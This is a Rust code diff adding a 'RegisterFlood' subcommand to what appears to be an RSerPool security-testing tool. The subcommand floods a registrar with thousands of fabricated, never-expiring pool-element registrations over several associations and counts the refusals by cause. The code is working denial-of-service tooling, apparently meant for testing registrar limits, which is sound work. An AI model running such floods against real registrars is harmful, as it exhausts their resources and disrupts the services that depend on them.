@@ -31,6 +31,23 @@ pub enum Attack {
     /// closes it; prints how many were answered, refused by the rate limit, and how often the
     /// registrar closed an association.
     ResolveFlood(FloodArgs),
+    /// A registration flood (RFC 5355 §3.3): made-up PEs registered over several associations
+    /// until the registrar refuses them; prints how many it took and how many it refused, by
+    /// cause.
+    RegisterFlood(RegisterFloodArgs),
+}
+
+#[derive(Args, Debug)]
+pub struct RegisterFloodArgs {
+    #[arg(long)]
+    pub pool: String,
+    #[arg(long, default_value_t = 4)]
+    pub associations: u32,
+    /// PEs each association tries to register.
+    #[arg(long, default_value_t = 2000)]
+    pub pes: u32,
+    #[command(flatten)]
+    pub registrars: RegistrarOpts,
 }
 
 #[derive(Args, Debug)]
@@ -93,6 +110,7 @@ pub fn run(args: AttackArgs) -> Result<()> {
             Attack::Takeover(a) => takeover(a).await,
             Attack::Unreachable(a) => unreachable(a).await,
             Attack::ResolveFlood(a) => resolve_flood(a).await,
+            Attack::RegisterFlood(a) => register_flood(a).await,
         }
     })
 }
@@ -291,4 +309,91 @@ async fn flood_one(reg: SocketAddr, batch: &[u8], until: tokio::time::Instant) -
     let (sent, mut f) = tokio::join!(writer, reader);
     f.sent = sent;
     Ok(f)
+}
+
+async fn register_flood(a: RegisterFloodArgs) -> Result<()> {
+    let Some(&reg) = a.registrars.registrars.first() else {
+        bail!("no registrar given");
+    };
+    let mut tasks = Vec::new();
+    for k in 0..a.associations.max(1) {
+        let pool = PoolHandle::from(a.pool.as_str());
+        let pes = a.pes;
+        tasks.push(tokio::spawn(async move {
+            register_many(reg, pool, k, pes).await
+        }));
+    }
+    let mut taken = 0u64;
+    let mut refused: std::collections::BTreeMap<String, u64> = Default::default();
+    // Every association stays open until all are done: its PEs count against the limits.
+    let mut open = Vec::new();
+    for t in tasks {
+        let (ok, no, conn) = t.await??;
+        open.push(conn);
+        taken += ok;
+        for (cause, n) in no {
+            *refused.entry(cause).or_default() += n;
+        }
+    }
+    let refused: Vec<String> = refused.iter().map(|(c, n)| format!("{n} {c}")).collect();
+    drop(open);
+    println!(
+        "registered {taken} PEs over {} association(s); refused: {}",
+        a.associations,
+        if refused.is_empty() {
+            "none".into()
+        } else {
+            refused.join(", ")
+        }
+    );
+    Ok(())
+}
+
+/// Association `k` registers `pes` made-up PEs, one after the other, refused or not. Returns
+/// (registered, refusals by cause) and the association, still open.
+async fn register_many(
+    reg: SocketAddr,
+    pool: PoolHandle,
+    k: u32,
+    pes: u32,
+) -> Result<(u64, Vec<(String, u64)>, AsapConnection)> {
+    let mut c = AsapConnection::connect(reg, Duration::from_secs(2)).await?;
+    let (mut ok, mut refused) = (0u64, Vec::new());
+    for i in 0..pes {
+        let id = (k << 20 | i) + 1;
+        let pe = rserpool_wire::PoolElement {
+            id,
+            home_registrar: 0,
+            registration_life: -1,
+            user_transport: rserpool_wire::UserTransport::Address(
+                rserpool_wire::TransportAddress::tcp(SocketAddr::from(([127, 0, 0, 1], 9))),
+            ),
+            policy: rserpool_wire::Policy::RoundRobin,
+            asap_transport: None,
+        };
+        c.send(&AsapMessage::Registration {
+            pool_handle: pool.clone(),
+            pool_element: pe,
+        })
+        .await?;
+        let answer = loop {
+            match c.recv().await? {
+                AsapMessage::RegistrationResponse { reject, error, .. } => break (reject, error),
+                _ => continue,
+            }
+        };
+        match answer {
+            (false, _) => ok += 1,
+            (true, error) => {
+                let cause = error
+                    .and_then(|e| e.causes.first().map(|c| c.code.to_string()))
+                    .unwrap_or_else(|| "no cause".into());
+                match refused.iter_mut().find(|(c, _)| *c == cause) {
+                    Some((_, n)) => *n += 1,
+                    None => refused.push((cause, 1)),
+                }
+            }
+        }
+    }
+    Ok((ok, refused, c))
 }
